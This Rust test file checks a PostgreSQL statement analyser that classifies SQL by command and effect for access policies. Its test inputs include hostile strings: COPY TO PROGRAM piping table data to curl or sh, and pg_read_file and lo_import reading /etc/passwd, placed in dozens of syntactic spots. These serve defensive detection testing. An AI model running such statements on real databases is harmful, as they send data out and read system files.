//! Promises of the analysis, one test each.

#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use std::collections::HashMap;

use proptest::prelude::*;

use super::*;
use crate::api::access_policy::SqlCommand as C;
use crate::engine::operation::Fact;
use crate::sql::facts::{CopyDirection, Effects, PartRelation, SqlFacts};

#[derive(Default)]
struct Session {
    path: Vec<std::sync::Arc<str>>,
    prepared: HashMap<String, std::sync::Arc<Statement>>,
    cursors: HashMap<String, std::sync::Arc<Statement>>,
    name: std::sync::Arc<str>,
}

impl SessionView for Session {
    fn prepared(&self, name: &str) -> Option<std::sync::Arc<Statement>> {
        self.prepared.get(name).cloned()
    }
    fn cursor(&self, name: &str) -> Option<std::sync::Arc<Statement>> {
        self.cursors.get(name).cloned()
    }
    fn search_path(&self) -> &[std::sync::Arc<str>] {
        &self.path
    }
    fn database(&self) -> &std::sync::Arc<str> {
        &self.name
    }
    fn role(&self) -> &std::sync::Arc<str> {
        &self.name
    }
    fn in_transaction(&self) -> bool {
        false
    }
    fn has_temporary_tables(&self) -> bool {
        false
    }
}

fn on(major: u32, text: &str) -> Analysis {
    let options = Options {
        server_major: major,
        ..Options::default()
    };
    analyse(text, &options, &Catalog::default(), &Session::default())
}

fn facts(text: &str) -> SqlFacts {
    let analysis = on(18, text);
    assert_ne!(
        analysis.completeness,
        Completeness::Opaque,
        "{text}: {:?}",
        analysis.problem
    );
    analysis.facts
}

fn commands(text: &str) -> Vec<C> {
    let facts = facts(text);
    let mut commands: Vec<C> = facts.parts.iter().map(|part| part.command).collect();
    commands.sort();
    commands.dedup();
    assert!(
        commands.iter().all(|command| facts.commands.contains(*command)),
        "{text}"
    );
    commands
}

fn unlisted(text: &str) -> Vec<String> {
    match facts(text).unlisted_functions {
        Fact::Known(names) => names.iter().map(|name| name.to_string()).collect(),
        _ => vec!["?".to_owned()],
    }
}

#[test]
fn a_write_in_a_cte_is_a_write() {
    assert!(commands("WITH d AS (DELETE FROM app.t RETURNING *) SELECT * FROM d").contains(&C::Delete));
    let facts = facts("SELECT * FROM (WITH u AS (UPDATE app.t SET a = 1 RETURNING a) SELECT 1) x");
    assert!(facts.commands.contains(C::Update) && facts.effects.contains(Effects::WRITE));
}

#[test]
fn explain_analyze_in_any_spelling_is_the_inner_command() {
    for text in [
        "EXPLAIN ANALYZE DELETE FROM app.t",
        "EXPLAIN (ANALYZE) DELETE FROM app.t",
        "explain (analyze true, costs off) DELETE FROM app.t",
        "EXPLAIN (ANALYZE ON) DELETE FROM app.t",
        "EXPLAIN (ANALYZE 1) DELETE FROM app.t",
        "EXPLAIN (\"analyze\" 'on') DELETE FROM app.t",
        "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM app.t",
        "EXPLAIN ANALYZE VERBOSE DELETE FROM app.t",
    ] {
        assert!(commands(text).contains(&C::Delete), "{text}");
        assert!(facts(text).effects.contains(Effects::WRITE), "{text}");
    }
    for text in ["EXPLAIN DELETE FROM app.t", "EXPLAIN (ANALYZE off) DELETE FROM app.t"] {
        assert_eq!(commands(text), [C::Explain], "{text}");
        assert!(!facts(text).effects.contains(Effects::WRITE), "{text}");
    }
    assert!(facts("EXPLAIN SELECT 1").explain);
}

#[test]
fn copy_is_select_or_insert_for_the_client_and_copy_for_files_and_programs() {
    assert_eq!(commands("COPY app.t TO STDOUT"), [C::Select]);
    assert_eq!(facts("COPY app.t TO STDOUT").copy, CopyDirection::Out);
    assert_eq!(commands("COPY app.t FROM STDIN"), [C::Insert]);
    assert_eq!(facts("COPY app.t FROM STDIN").copy, CopyDirection::In);
    for text in [
        "COPY app.t TO PROGRAM 'curl -d @- http://x'",
        "COPY app.t FROM PROGRAM 'cat /etc/passwd'",
        "COPY app.t TO '/tmp/x'",
        "COPY app.t FROM '/etc/passwd'",
        "COPY (SELECT 1) TO PROGRAM 'sh'",
    ] {
        let facts = facts(text);
        assert!(
            facts.commands.contains(C::Copy) && facts.effects.contains(Effects::FILESYSTEM),
            "{text}"
        );
        assert_eq!(facts.copy, CopyDirection::None, "{text}");
    }
    assert_eq!(
        on(18, "COPY app.t TO STDOUT (ENCODING 'LATIN1')").completeness,
        Completeness::Opaque
    );
}

#[test]
fn do_and_call_reach_beyond_what_can_be_told() {
    let facts_of_do = facts("DO $$ BEGIN DELETE FROM app.t; END $$");
    assert!(facts_of_do.commands.contains(C::Do) && facts_of_do.effects.contains(Effects::UNKNOWN));
    assert_eq!(facts_of_do.tables, Fact::Unknown);
    assert_eq!(facts_of_do.functions, Fact::Unknown);
    let call = facts("CALL app.pay(1)");
    assert!(call.commands.contains(C::Call) && call.effects.contains(Effects::UNKNOWN));
    assert_eq!(call.unlisted_functions, Fact::Unknown);
}

#[test]
fn a_function_is_seen_wherever_it_hides() {
    for text in [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT * FROM pg_read_file('/etc/passwd') f",
        "SELECT 1 WHERE pg_read_file('x') = ''",
        "SELECT 1 ORDER BY pg_read_file('x')",
        "SELECT 1 LIMIT length(pg_read_file('x'))",
        "VALUES (pg_read_file('x'))",
        "SELECT count(*) FILTER (WHERE pg_read_file('x') = '')",
        "SELECT sum(1) OVER (PARTITION BY pg_read_file('x'))",
        "SELECT ('x'::text).pg_read_file",
        "SELECT f.pg_read_file FROM unnest(ARRAY['x']) f",
        "SELECT CASE WHEN true THEN pg_read_file('x') END",
        "SELECT * FROM ROWS FROM (pg_read_file('x')) AS f",
        "PREPARE p AS SELECT pg_read_file('x')",
        "DECLARE c CURSOR FOR SELECT pg_read_file('x')",
        "EXPLAIN SELECT pg_read_file('x')",
        "COPY (SELECT pg_read_file('x')) TO STDOUT",
        "CREATE TABLE app.x AS SELECT pg_read_file('x')",
        "CREATE TABLE app.x (a text DEFAULT pg_read_file('x'))",
        "CREATE VIEW app.v AS SELECT pg_read_file('x')",
        "INSERT INTO app.t VALUES (pg_read_file('x'))",
        "INSERT INTO app.t VALUES (1) ON CONFLICT (a) DO UPDATE SET a = pg_read_file('x')",
        "INSERT INTO app.t VALUES (1) RETURNING pg_read_file('x')",
        "UPDATE app.t SET a = pg_read_file('x')",
        "DELETE FROM app.t USING pg_read_file('x') f",
        "MERGE INTO app.t USING app.s ON true WHEN MATCHED THEN UPDATE SET a = pg_read_file('x')",
        "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT length(pg_read_file('x')) FROM r) SELECT * FROM r",
        "SELECT pg_catalog.pg_read_file('x')",
        "SELECT \"pg_read_file\"('x')",
        "SELECT U&\"pg\\005fread_file\"('x')",
        "SELECT json_object('a': pg_read_file('x'))",
        "SELECT xmlelement(name a, pg_read_file('x'))",
        "SELECT * FROM app.t TABLESAMPLE bernoulli (length(pg_read_file('x')))",
        "SELECT GREATEST(1, length(pg_read_file('x')))",
        "SELECT ARRAY[pg_read_file('x')]",
        "SELECT (ARRAY[1])[length(pg_read_file('x'))]",
        "EXECUTE q(pg_read_file('x'))",
    ] {
        let analysis = on(18, text);
        let names = match &analysis.facts.unlisted_functions {
            Fact::Known(names) => names.iter().any(|name| &**name == "pg_catalog.pg_read_file"),
            _ => analysis.completeness == Completeness::Opaque,
        };
        assert!(names, "{text}: {:?}", analysis.facts.unlisted_functions);
    }
    assert!(facts("SELECT pg_read_file('x')").effects.contains(Effects::FILESYSTEM));
    assert!(unlisted("SELECT lower('x') || 'y', now()::date, 1 = ANY (ARRAY[1]) AND 'a' LIKE 'b'").is_empty());
    assert_eq!(unlisted("SELECT no_such_function(1)"), ["?"]);
    assert_eq!(unlisted("SELECT 1 OPERATOR(app.+) 1"), ["?"]);
    assert_eq!(unlisted("SELECT 'x'::app.odd"), ["?"]);
}

#[test]
fn effects_tell_what_a_function_does() {
    for (text, effect) in [
        ("SELECT pg_notify('c', 'x')", Effects::SESSION),
        ("SELECT pg_advisory_lock(1)", Effects::LOCK),
        ("SELECT nextval('s')", Effects::WRITE),
        ("SELECT lo_import('/etc/passwd')", Effects::FILESYSTEM),
        ("SELECT pg_terminate_backend(1)", Effects::ADMIN),
        (
            "SELECT query_to_xml('delete from app.t', true, true, '')",
            Effects::READ,
        ),
        ("SELECT * FROM app.t FOR UPDATE", Effects::LOCK),
        ("TRUNCATE app.t", Effects::WRITE),
        (
            "CREATE FUNCTION app.f() RETURNS int LANGUAGE sql AS 'select 1'",
            Effects::DEFINE,
        ),
        ("GRANT SELECT ON app.t TO public", Effects::GRANT),
        ("ALTER SYSTEM SET work_mem = '1GB'", Effects::ADMIN),
        ("LOAD 'x'", Effects::FILESYSTEM),
        (
            "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p",
            Effects::NETWORK,
        ),
    ] {
        assert!(facts(text).effects.contains(effect), "{text}");
    }
}

#[test]
fn commands_are_named_as_policies_name_them() {
    for (text, expected) in [
        ("SELECT 1", C::Select),
        ("VALUES (1)", C::Select),
        ("TRUNCATE app.t", C::Truncate),
        ("DROP TABLE app.t", C::Drop),
        ("CREATE INDEX ON app.t (a)", C::Create),
        ("ALTER TABLE app.t ADD COLUMN a int", C::Alter),
        ("GRANT SELECT ON app.t TO public", C::Grant),
        ("REVOKE SELECT ON app.t FROM public", C::Revoke),
        ("COMMENT ON TABLE app.t IS 'x'", C::Comment),
        ("VACUUM app.t", C::Maintain),
        ("LOCK TABLE app.t", C::Lock),
        ("LISTEN c", C::Listen),
        ("NOTIFY c, 'x'", C::Notify),
        ("SET work_mem = '1GB'", C::Set),
        ("SHOW work_mem", C::Set),
        ("BEGIN", C::Transaction),
        ("DEALLOCATE ALL", C::Other),
        ("SET CONSTRAINTS ALL DEFERRED", C::Transaction),
    ] {
        assert_eq!(commands(text), [expected], "{text}");
    }
    assert_eq!(facts("DROP TABLE app.t").objects, ["Table".into()]);
    assert_eq!(
        &*on(18, "DROP MATERIALIZED VIEW app.t").statements[0].action,
        "DROP MATERIALIZED VIEW"
    );
    assert_eq!(
        &*on(18, "alter table app.t add b int").statements[0].action,
        "ALTER TABLE"
    );
}

#[test]
fn what_drivers_send_on_connect_and_reset_rides_along() {
    for text in [
        "BEGIN",
        "COMMIT AND CHAIN",
        "ROLLBACK TO SAVEPOINT s",
        "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE",
        "SHOW transaction_isolation",
        "SET extra_float_digits = 3",
        "SET TIME ZONE 'UTC'",
        "SET NAMES 'utf8'",
        "SET client_encoding TO 'UTF8'",
        "SET standard_conforming_strings = on",
        "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL READ COMMITTED",
        "RESET ALL",
        "RESET search_path",
        "CLOSE ALL",
        "UNLISTEN *",
        "DISCARD ALL",
        "DEALLOCATE p",
        "SELECT pg_advisory_unlock_all()",
        "SELECT set_config('jit', 'off', false)",
        "SELECT current_setting('jit') AS cur, pg_catalog.set_config('jit', 'off', false) AS new",
    ] {
        let facts = facts(text);
        assert!(
            !facts.parts.is_empty() && facts.parts.iter().all(|part| part.rides_along),
            "{text}: {facts:?}"
        );
    }
    for text in [
        "PREPARE TRANSACTION 'x'",
        "BEGIN READ WRITE",
        "SET TRANSACTION READ WRITE",
        "SET search_path = app",
        "SET standard_conforming_strings = off",
        "SET client_encoding = 'GBK'",
        "SET NAMES 'GBK'",
        "SET ROLE admin",
        "SET SESSION AUTHORIZATION admin",
        "SET session_replication_role = replica",
        "SET LOCAL work_mem = '1GB'",
        "SELECT set_config('search_path', 'app', false)",
        "SELECT set_config($1, 'off', false)",
        "SELECT set_config('j' || 'it', 'off', false)",
        "UNLISTEN c",
        "LISTEN c",
        "SELECT pg_advisory_lock(1)",
        "SELECT 1",
    ] {
        assert!(facts(text).parts.iter().all(|part| !part.rides_along), "{text}");
    }
}

#[test]
fn settings_beyond_the_list_need_naming() {
    assert_eq!(facts("SET search_path = app").unlisted_settings, ["search_path".into()]);
    assert_eq!(facts("SET ROLE admin").unlisted_settings, ["role".into()]);
    assert_eq!(
        facts("BEGIN READ WRITE").unlisted_settings,
        ["transaction_read_only".into()]
    );
    assert_eq!(
        facts("SELECT set_config('work_mem', '1GB', true)").unlisted_settings,
        ["work_mem".into()]
    );
    assert_eq!(
        facts("ALTER ROLE bob SET search_path = app").unlisted_settings,
        ["search_path".into()]
    );
    assert_eq!(
        unlisted("SELECT set_config('search_path', 'x', false)"),
        ["pg_catalog.set_config"]
    );
    assert_eq!(unlisted("SELECT set_config($1, 'x', false)"), ["pg_catalog.set_config"]);
    assert!(facts("SET application_name = 'x'").unlisted_settings.is_empty());
    assert_eq!(facts("LISTEN orders").channels, ["orders".into()]);
}

#[test]
fn what_a_statement_means_to_the_session_is_told() {
    let kind = |text: &str| format!("{:?}", on(18, text).statements[0].kind);
    assert!(kind("SET LOCAL statement_timeout = 5")
        .contains("Set { name: \"statement_timeout\", value: Some(\"5\"), local: true"));
    assert!(kind("SELECT set_config('jit', 'off', false)")
        .contains("Set { name: \"jit\", value: Some(\"off\"), local: false"));
    assert!(kind("PREPARE p AS SELECT $1::int").starts_with("Prepare { name: \"p\""));
    assert!(kind("DECLARE c CURSOR WITH HOLD FOR SELECT 1").starts_with("Declare { name: \"c\", hold: true"));
    assert!(kind("COPY app.t TO STDOUT (FORMAT csv, DELIMITER ';', HEADER)")
        .contains("format: \"csv\", delimiter: Some(59)"));
    assert!(kind("DEALLOCATE ALL").contains("Deallocate(None)"));
    assert!(kind("CLOSE c").contains("CloseCursor(Some(\"c\"))"));
    assert!(kind("DISCARD TEMP").contains("Temp"));
    let prepare = on(18, "PREPARE p AS SELECT $1::int, $2::text");
    let StatementKind::Prepare { inner, .. } = &prepare.statements[0].kind else {
        panic!("not a PREPARE");
    };
    assert_eq!((inner.parameters, prepare.statements[0].parameters), (2, 0));
}

#[test]
fn execute_and_fetch_are_judged_by_their_bodies_and_unknown_names_are_opaque() {
    for text in [
        "EXECUTE nobody",
        "FETCH ALL FROM nobody",
        "MOVE nobody",
        "CREATE TABLE app.x AS EXECUTE nobody",
    ] {
        assert_eq!(on(18, text).completeness, Completeness::Opaque, "{text}");
    }
    assert!(commands("PREPARE p AS DELETE FROM app.t; EXECUTE p").contains(&C::Delete));
    let body = on(18, "SELECT pg_read_file('x')").statements[0].clone();
    let mut session = Session::default();
    session.prepared.insert("p".to_owned(), body.clone());
    session.cursors.insert("c".to_owned(), body);
    for text in ["EXECUTE p", "FETCH 1 FROM c", "EXPLAIN ANALYZE EXECUTE p"] {
        let facts = analyse(text, &Options::default(), &Catalog::default(), &session).facts;
        assert!(facts.effects.contains(Effects::FILESYSTEM), "{text}");
    }
}

#[test]
fn a_name_after_a_statement_that_may_change_it_is_unresolved() {
    for first in [
        "SET search_path = evil",
        "DROP TABLE app.t",
        "ROLLBACK",
        "RESET ALL",
        "DO 'x'",
        "CREATE TABLE a.b ()",
    ] {
        let analysis = on(18, &format!("{first}; SELECT lower('x'); SELECT * FROM pg_class"));
        let last = &analysis.statements[2].facts;
        assert!(
            last.parts.iter().all(|part| part.relation == PartRelation::Unknown),
            "{first}"
        );
        assert_eq!(
            analysis.statements[1].facts.unlisted_functions,
            Fact::Unknown,
            "{first}"
        );
    }
    let harmless = on(18, "SET jit = off; SHOW search_path; SELECT lower('x')");
    assert_ne!(harmless.statements[2].facts.unlisted_functions, Fact::Unknown);
}

#[test]
fn syntax_newer_than_the_server_is_opaque() {
    let merge = "MERGE INTO app.t USING app.s ON true WHEN MATCHED THEN DELETE";
    assert_eq!(on(14, merge).completeness, Completeness::Opaque);
    assert_ne!(on(15, merge).completeness, Completeness::Opaque);
    assert_eq!(on(15, "SELECT JSON_SCALAR(1)").completeness, Completeness::Opaque);
    let old = "UPDATE app.t SET a = 1 RETURNING WITH (OLD AS o) o.a";
    assert_eq!(on(17, old).completeness, Completeness::Opaque);
}

#[test]
fn facts_of_a_string_are_those_of_all_its_statements() {
    let facts = facts("SELECT 1; DELETE FROM app.t; LISTEN c;");
    assert_eq!(facts.statements, 3);
    assert!(facts.commands.contains(C::Delete) && facts.commands.contains(C::Select));
    assert!(!facts.filtered);
    let empty = on(18, " ; ;");
    assert_eq!((empty.statements.len(), empty.completeness), (0, Completeness::Exact));
    let text = "  SELECT 1 ;\n DELETE FROM app.t  ";
    let ranges: Vec<_> = on(18, text)
        .statements
        .iter()
        .map(|s| text[s.range.clone()].to_owned())
        .collect();
    assert_eq!(ranges, ["SELECT 1", "DELETE FROM app.t"]);
}

#[test]
fn the_top_limit_is_a_number_or_unknown() {
    assert_eq!(facts("SELECT 1 LIMIT 5").limit, Fact::Known(Some(5)));
    assert_eq!(facts("SELECT 1").limit, Fact::Known(None));
    assert_eq!(facts("SELECT 1 LIMIT ALL").limit, Fact::Known(None));
    assert_eq!(facts("SELECT * FROM (SELECT 1 LIMIT 5) x").limit, Fact::Known(None));
    for text in [
        "SELECT 1 LIMIT $1",
        "SELECT 1 LIMIT 2 + 3",
        "SELECT 1 ORDER BY 1 FETCH FIRST 5 ROWS WITH TIES",
    ] {
        assert_eq!(facts(text).limit, Fact::Unknown, "{text}");
    }
}

#[test]
fn a_text_that_does_not_parse_quotes_the_grammar() {
    let analysis = on(18, "SELEC 1");
    assert_eq!(analysis.completeness, Completeness::Opaque);
    assert_eq!(analysis.problem.as_deref(), Some("syntax error at or near \"SELEC\""));
    assert_eq!(analysis.facts.tables, Fact::Unknown);
    assert!(!analysis.facts.filtered);
}

#[test]
fn hostile_texts_come_back_with_a_verdict() {
    let deep = [
        "(".repeat(1_000_000),
        format!("SELECT {}1", "1 + ".repeat(4_000)),
        format!("SELECT {}1", "1 + ".repeat(1_500)),
        format!("SELECT {}1{}", "(SELECT ".repeat(400), ")".repeat(400)),
        format!("SELECT 1{}", " UNION ALL SELECT 1".repeat(1_200)),
        format!("SELECT {}true", "NOT ".repeat(1_400)),
    ];
    for text in deep {
        let analysis = on(18, &text);
        assert_eq!(analysis.completeness, Completeness::Opaque, "{}", &text[..40]);
    }
    let wide = format!("SELECT * FROM app.t WHERE {}true", "a = 1 OR ".repeat(4_000));
    let _ = on(18, &wide);
    let rows = format!("INSERT INTO app.t VALUES {}(1)", "(1, 'x'), ".repeat(10_000));
    assert_ne!(on(18, &rows).completeness, Completeness::Opaque);
    let limit = on(18, &format!("SELECT {}1", "1 + ".repeat(1_500))).limit;
    assert_eq!(limit, Some(prescan::Limit::Depth));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn analysis_never_panics_on_any_string(text in any::<String>()) {
        let _ = on(15, &text);
    }

    #[test]
    fn analysis_never_panics_on_pieces_of_sql(words in proptest::collection::vec(prop_oneof![
        Just("SELECT"), Just("FROM"), Just("("), Just(")"), Just(","), Just("app.t"), Just("WHERE"), Just("a"),
        Just("="), Just("1"), Just("'x'"), Just("$1"), Just("INSERT INTO"), Just("VALUES"), Just("DELETE"),
        Just("UPDATE"), Just("SET"), Just("WITH x AS"), Just("JOIN"), Just("ON"), Just("::text"), Just("*"),
        Just(";"), Just("COPY"), Just("TO STDOUT"), Just("EXPLAIN"), Just("ANALYZE"), Just("PREPARE p AS"),
        Just("EXECUTE p"), Just("RETURNING"), Just("UNION"), Just("ORDER BY"), Just("LIMIT"), Just("[1]"),
        Just("CREATE TABLE"), Just("AS"), Just("lower"), Just("NOT"), Just("NULL"), Just("IN"), Just("."),
    ], 0..24)) {
        let _ = on(18, &words.join(" "));
    }
}
